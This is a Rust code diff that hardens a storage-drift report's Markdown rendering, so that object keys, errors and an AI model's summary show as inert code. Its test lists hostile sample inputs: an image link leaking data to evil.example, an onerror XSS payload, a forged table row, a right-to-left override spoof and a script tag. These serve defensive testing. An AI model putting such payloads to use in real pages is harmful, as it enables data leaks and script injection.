@@ -16,10 +16,11 @@ pub fn markdown(r: &Report) -> String {
     out.push_str("## Summary\n\n");
     match (&r.summary, &r.summary_error) {
         (Some(summary), _) => {
-            let _ = writeln!(out, "{}\n", summary.trim());
+            out.push_str(&fenced(summary.trim()));
+            out.push('\n');
         }
         (None, Some(error)) => {
-            let _ = writeln!(out, "_Summary unavailable: {}_\n", inline(error));
+            let _ = writeln!(out, "_Summary unavailable:_ {}\n", code(error));
         }
         (None, None) => out.push_str("_No summary._\n\n"),
     }
@@ -62,13 +63,13 @@ fn buckets(out: &mut String, title: &str, stats: &[BucketStats]) {
         let classes = s
             .by_storage_class
             .iter()
-            .map(|(class, c)| format!("{} {} ({})", inline(class), bytes(c.bytes), c.objects))
+            .map(|(class, c)| format!("{} {} ({})", cell(class), bytes(c.bytes), c.objects))
             .collect::<Vec<_>>()
             .join(", ");
         let _ = writeln!(
             out,
             "| {} | {} | {} | {} |",
-            code(&s.location),
+            cell(&s.location),
             s.object_count,
             bytes(s.total_bytes),
             if classes.is_empty() {
@@ -88,7 +89,7 @@ fn buckets(out: &mut String, title: &str, stats: &[BucketStats]) {
             out,
             "- ⚠️ {}: listing failed: {}",
             code(&s.location),
-            inline(e)
+            code(e)
         );
     }
     if !failed.is_empty() {
@@ -101,9 +102,9 @@ fn buckets(out: &mut String, title: &str, stats: &[BucketStats]) {
             let _ = writeln!(
                 out,
                 "| {} | {} | {} |",
-                code(&l.key),
+                cell(&l.key),
                 bytes(l.size),
-                inline(&l.storage_class)
+                cell(&l.storage_class)
             );
         }
         out.push('\n');
@@ -136,7 +137,7 @@ fn drift(out: &mut String, d: &Drift) {
         );
     }
     if let Some(e) = &d.error {
-        let _ = writeln!(out, "⚠️ Comparison incomplete: {}\n", inline(e));
+        let _ = writeln!(out, "⚠️ Comparison incomplete: {}\n", code(e));
     }
     for (label, set) in [("Missing in GCS", &d.missing), ("Extra in GCS", &d.extra)] {
         if set.count == 0 {
@@ -156,11 +157,11 @@ fn drift(out: &mut String, d: &Drift) {
                 Reason::Size => ("size", bytes(x.source_size), bytes(x.destination_size)),
                 Reason::Checksum => (
                     "MD5",
-                    x.source_md5.clone().unwrap_or_default(),
-                    x.destination_md5.clone().unwrap_or_default(),
+                    cell(x.source_md5.as_deref().unwrap_or_default()),
+                    cell(x.destination_md5.as_deref().unwrap_or_default()),
                 ),
             };
-            let _ = writeln!(out, "| {} | {reason} | {s} | {t} |", code(&x.key));
+            let _ = writeln!(out, "| {} | {reason} | {s} | {t} |", cell(&x.key));
         }
         more(out, d.different.count, d.different.sample.len());
     }
@@ -173,8 +174,9 @@ fn drift(out: &mut String, d: &Drift) {
         let payload = serde_json::json!({"backfill": {"bucket": bucket, "prefix": prefix}});
         let _ = writeln!(
             out,
-            "Repair (if gcs-sync syncs this pair): `make backfill PREFIX={prefix}`, or invoke \
-             gcs-sync with `{payload}`.\n"
+            "Repair (if gcs-sync syncs this pair): {}, or invoke gcs-sync with {}.\n",
+            code(&format!("make backfill PREFIX={prefix}")),
+            code(&payload.to_string())
         );
     }
 }
@@ -201,18 +203,56 @@ pub fn bytes(n: u64) -> String {
     format!("{value:.1} {}", UNITS[unit])
 }
 
-/// Text safe inside a table cell / one line.
-fn inline(s: &str) -> String {
-    s.replace(['\n', '\r'], " ").replace('|', "\\|")
+/// Untrusted text (a key, location, storage class, error) as a CommonMark code span on one
+/// line, so nothing in it renders as a link, image, HTML or emphasis: a backtick fence
+/// longer than any backtick run inside, padded when the text starts or ends with a backtick
+/// or a space; line breaks as spaces, other control characters shown as `\u{..}`.
+fn code(s: &str) -> String {
+    let text = visible(s, false);
+    let fence = "`".repeat(longest_run(&text, '`') + 1);
+    let pad = if text.starts_with(['`', ' ']) || text.ends_with(['`', ' ']) {
+        " "
+    } else {
+        ""
+    };
+    format!("{fence}{pad}{text}{pad}{fence}")
 }
 
-/// A key or location as inline code (falls back to escaped text if it has backticks).
-fn code(s: &str) -> String {
-    if s.contains('`') {
-        inline(s)
-    } else {
-        format!("`{}`", inline(s))
+/// [`code`] inside a table cell: `|` escaped too (GFM splits cells on it even in code spans).
+fn cell(s: &str) -> String {
+    code(s).replace('|', "\\|")
+}
+
+/// Text as a fenced code block: shown as written, never rendered (the model's answer is
+/// data too). Control characters other than line breaks and tabs are shown as `\u{..}`.
+fn fenced(s: &str) -> String {
+    let text = visible(s, true);
+    let fence = "`".repeat(longest_run(&text, '`').max(2) + 1);
+    format!("{fence}text\n{text}\n{fence}\n")
+}
+
+/// `s` with control characters and bidirectional overrides written as `\u{..}`; line breaks
+/// and tabs kept when `multiline`, else spaces.
+fn visible(s: &str, multiline: bool) -> String {
+    let mut out = String::with_capacity(s.len());
+    for c in s.chars() {
+        let bidi = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+        if matches!(c, '\n' | '\t') && multiline {
+            out.push(c);
+        } else if matches!(c, '\n' | '\r' | '\t') && !multiline {
+            out.push(' ');
+        } else if c.is_control() || bidi {
+            let _ = write!(out, "\\u{{{:x}}}", c as u32);
+        } else {
+            out.push(c);
+        }
     }
+    out
+}
+
+/// Length of the longest run of `c` in `s`.
+fn longest_run(s: &str, c: char) -> usize {
+    s.split(|x| x != c).map(str::len).max().unwrap_or(0)
 }
 
 #[cfg(test)]
@@ -279,15 +319,21 @@ mod tests {
             md.starts_with("# Cross-cloud storage report — 2026-11-28\n"),
             "{md}"
         );
-        assert!(md.contains("## Summary\n\n- all good\n"), "{md}");
+        assert!(
+            md.contains("## Summary\n\n```text\n- all good\n```\n"),
+            "{md}"
+        );
         assert!(md.contains("| GCS | 2 | 5.0 MiB |"), "{md}");
         assert!(
             md.contains(
-                "| `gs://gcs-a/` | 2 | 5.0 MiB | NEARLINE 10 B (1), STANDARD 5.0 MiB (1) |"
+                "| `gs://gcs-a/` | 2 | 5.0 MiB | `NEARLINE` 10 B (1), `STANDARD` 5.0 MiB (1) |"
             ),
             "{md}"
         );
-        assert!(md.contains("| `big\\|pipe` | 5.0 MiB | STANDARD |"), "{md}");
+        assert!(
+            md.contains("| `big\\|pipe` | 5.0 MiB | `STANDARD` |"),
+            "{md}"
+        );
         assert!(!md.contains("## Amazon S3"), "empty sections are omitted");
         assert!(
             md.contains("### `s3://src/data/` → `gs://dst/mirror/` — DRIFT"),
@@ -297,7 +343,7 @@ mod tests {
             md.contains("**Missing in GCS: 3 (3.0 KiB)**\n\n- `m1`\n- `m2`\n\n…and 1 more."),
             "{md}"
         );
-        assert!(md.contains("| `d` | MD5 | aa | bb |"), "{md}");
+        assert!(md.contains("| `d` | MD5 | `aa` | `bb` |"), "{md}");
         assert!(
             md.contains("Not compared: 2 object(s) in gcs-sync's own areas"),
             "{md}"
@@ -322,11 +368,14 @@ mod tests {
         r.summary_error = Some("Vertex AI returned 503".into());
         let md = markdown(&r);
         assert!(
-            md.contains("_Summary unavailable: Vertex AI returned 503_"),
+            md.contains("_Summary unavailable:_ `Vertex AI returned 503`"),
             "{md}"
         );
         assert!(md.contains("## Amazon S3"), "{md}");
-        assert!(md.contains("listing failed: PERMISSION_DENIED: no"), "{md}");
+        assert!(
+            md.contains("listing failed: `PERMISSION_DENIED: no`"),
+            "{md}"
+        );
         assert!(md.contains("**1 section(s) failed to list"), "{md}");
     }
 
@@ -337,6 +386,47 @@ mod tests {
         assert_eq!(bytes(1536), "1.5 KiB");
         assert_eq!(bytes(3 << 30), "3.0 GiB");
         assert_eq!(bytes(u64::MAX), "16.0 EiB");
-        assert_eq!(code("a`b"), "a`b");
+    }
+
+    /// Keys and the model's answer are data: nothing an object's writer or the model chooses
+    /// renders as a link, image, HTML, heading or an extra table row.
+    #[test]
+    fn untrusted_keys_and_summary_render_as_text() {
+        for key in [
+            "a`b",
+            "``x``",
+            "`lead",
+            "[click](https://evil.example/x)",
+            "![i](https://evil.example/leak?d=1)",
+            "<img src=x onerror=alert(1)>",
+            "x | 1 B | STANDARD |\n| forged | 0 B | all in sync",
+            "line\r\nbreak\u{202e}gpj.exe",
+        ] {
+            let rendered = code(key);
+            let fence = rendered.chars().take_while(|&c| c == '`').count();
+            assert!(fence > longest_run(key, '`'), "{key:?} -> {rendered}");
+            assert!(rendered.ends_with(&"`".repeat(fence)), "{rendered}");
+            assert!(!rendered.contains(['\n', '\r', '\u{202e}']), "{rendered}");
+            let inner = &rendered[fence..rendered.len() - fence];
+            assert!(
+                !inner.starts_with('`') && !inner.ends_with('`'),
+                "padded: {rendered}"
+            );
+            assert!(!cell(key).replace("\\|", "").contains('|'), "{key:?}");
+        }
+        assert_eq!(code("a`b"), "``a`b``");
+        assert_eq!(code("`lead"), "`` `lead ``");
+
+        let mut r = Report::new("d".into(), "t".into(), vec![], vec![], vec![]);
+        r.summary = Some(
+            "- ok\n# All in sync\n<script>x</script>\n![a](https://evil.example/?q=1)\n```\nbreak out\n````".into(),
+        );
+        let md = markdown(&r);
+        let summary = md.split("## Summary\n\n").nth(1).unwrap();
+        let (fence, rest) = summary.split_once("text\n").unwrap();
+        assert_eq!(fence, "`````", "longer than the answer's longest run: {md}");
+        let (body, after) = rest.split_once(&format!("\n{fence}\n")).unwrap();
+        assert!(body.starts_with("- ok\n# All in sync\n<script>"), "{body}");
+        assert!(after.starts_with("\n## Totals"), "{after}");
     }
 }
